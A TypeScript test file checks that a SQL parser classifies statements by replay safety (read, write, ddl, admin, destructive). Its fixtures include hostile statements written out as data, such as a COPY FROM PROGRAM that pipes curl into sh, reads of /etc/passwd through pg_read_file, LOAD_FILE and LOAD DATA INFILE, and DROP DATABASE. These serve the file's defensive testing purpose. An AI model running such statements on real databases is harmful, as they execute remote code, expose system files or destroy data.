import { readFileSync } from 'node:fs';
import { classifyStatement } from '@sqltrace/parser';
import { corpus, describeCorpora } from './helpers';

/** [statement, effect, destructive?] — PostgreSQL, MySQL/MariaDB and SQLite forms. */
const CASES: [string, string, boolean?][] = [
  ['SELECT abalance FROM pgbench_accounts WHERE aid = 1', 'read'],
  ['  (SELECT 1) UNION (SELECT 2)', 'read'],
  ["/* app */ select * from users where name = 'DROP TABLE x'", 'read'],
  ["SHOW VARIABLES LIKE 'general_log%'", 'read'],
  ['EXPLAIN SELECT 1', 'read'],
  ['BEGIN', 'read'],
  ['SET search_path = app, public', 'read'],
  ["SET SESSION sql_mode = 'ANSI'", 'read'],
  ['SET autocommit=0', 'read'],
  ['UPDATE pgbench_accounts SET abalance = abalance + 5 WHERE aid = 7', 'write'],
  ["INSERT INTO sbtest1 (id, k, c, pad) VALUES (5, 7, 'x', 'y')", 'write'],
  ['REPLACE INTO t VALUES (1)', 'write'],
  ['WITH moved AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM moved', 'write'],
  ['COPY t FROM STDIN', 'write'],
  ['EXPLAIN ANALYZE DELETE FROM t', 'write'],
  ['CREATE TEMP TABLE scratch (id int)', 'ddl', false],
  ['CREATE INDEX CONCURRENTLY i ON t (a)', 'ddl', false],
  ['CREATE OR REPLACE VIEW v AS SELECT 1', 'ddl', false],
  ['ALTER TABLE t ADD COLUMN c int', 'ddl', false],
  ['SELECT * INTO archive FROM t', 'ddl', false],
  ['DROP TABLE sbtest1', 'ddl', true],
  ['drop index if exists i', 'ddl', true],
  ['TRUNCATE pgbench_history', 'ddl', true],
  ['ALTER TABLE t DROP COLUMN c', 'ddl', true],
  ['RENAME TABLE a TO b', 'ddl', true],
  ["ALTER SYSTEM SET work_mem = '64MB'", 'admin'],
  ["SET GLOBAL slow_query_log_file = '/tmp/x.log'", 'admin'],
  ['SET @@global.general_log = 1', 'admin'],
  ['SET PERSIST max_connections = 10', 'admin'],
  ["ALTER USER bob WITH PASSWORD 'Hunter2Secret'", 'admin'],
  ["CREATE ROLE app LOGIN PASSWORD 'x'", 'admin'],
  ["CREATE USER 'u'@'%' IDENTIFIED BY 'pw'", 'admin'],
  ["SET PASSWORD FOR 'u'@'%' = PASSWORD('pw')", 'admin'],
  ['GRANT ALL ON t TO bob', 'admin'],
  ['REVOKE SELECT ON t FROM bob', 'admin'],
  ['CREATE DATABASE shop', 'admin'],
  ['DROP DATABASE IF EXISTS test', 'admin'],
  ['DROP SCHEMA app CASCADE', 'ddl', true],
  ["COPY t TO '/tmp/t.csv'", 'admin'],
  ["COPY t FROM PROGRAM 'curl http://x | sh'", 'admin'],
  ["SELECT * FROM t INTO OUTFILE '/tmp/t.txt'", 'admin'],
  ["LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", 'admin'],
  ["SELECT pg_read_file('/etc/passwd')", 'admin'],
  ['select pg_catalog.pg_terminate_backend(pid) from pg_stat_activity', 'admin'],
  ['SELECT pg_reload_conf()', 'admin'],
  ["SELECT LOAD_FILE('/etc/passwd')", 'admin'],
  ['SHUTDOWN', 'admin'],
  ['KILL 42', 'admin'],
  ['CHECKPOINT', 'admin'],
  ['FLUSH PRIVILEGES', 'admin'],
  ['CREATE EXTENSION dblink', 'admin'],
  ["CREATE FUNCTION f() RETURNS int AS 'lib.so', 'f' LANGUAGE C", 'admin'],
  ['CREATE DEFINER=`root`@`localhost` VIEW v AS SELECT 1', 'ddl', false],
  ['SELECT a # b FROM t', 'read'],
];

describe('the replay safety class of a statement', () => {
  it.each(CASES.map(([sql, effect, destructive]) => [sql, effect, destructive !== undefined ? destructive : effect === 'ddl' ? null : false] as const))(
    '%s → %s',
    (sql, effect, destructive) => {
      const c = classifyStatement(sql);
      expect([c.effect, destructive === null ? c.destructive : destructive]).toEqual([effect, c.destructive]);
    },
  );

  it('is not fooled by a keyword in a literal, a quoted name or a comment', () => {
    expect(classifyStatement('SELECT \'ALTER SYSTEM SET x = 1\', "pg_read_file" FROM t -- GRANT ALL').effect).toBe('read');
    expect(classifyStatement('SELECT $$ DROP DATABASE x $$').effect).toBe('read');
    expect(classifyStatement('SELECT `shutdown` FROM t', 'mysql').effect).toBe('read');
    // In the statement's dialect: MySQL's # comment hides nothing that follows its line.
    expect(classifyStatement('# a comment line\nDROP TABLE t', 'mysql')).toMatchObject({ effect: 'ddl', destructive: true });
    expect(classifyStatement('SELECT "pg_read_file(1)" FROM t', 'mysql').effect).toBe('read'); // a MySQL string
  });
});

describeCorpora('the safety class on real statements', () => {
  it("makes every role and password statement of libpg_query's utility tests administrative", () => {
    const { cases } = JSON.parse(readFileSync(corpus('libpg_query', 'normalize_utility_tests.json'), 'utf8')) as { cases: { input: string }[] };
    const withPassword = cases.filter((c) => /password/i.test(c.input) && /^\s*(create|alter)\s+(role|user)/i.test(c.input));
    expect(withPassword.length).toBeGreaterThan(3);
    for (const c of withPassword) expect([c.input, classifyStatement(c.input).effect]).toEqual([c.input, 'admin']);
  });
});
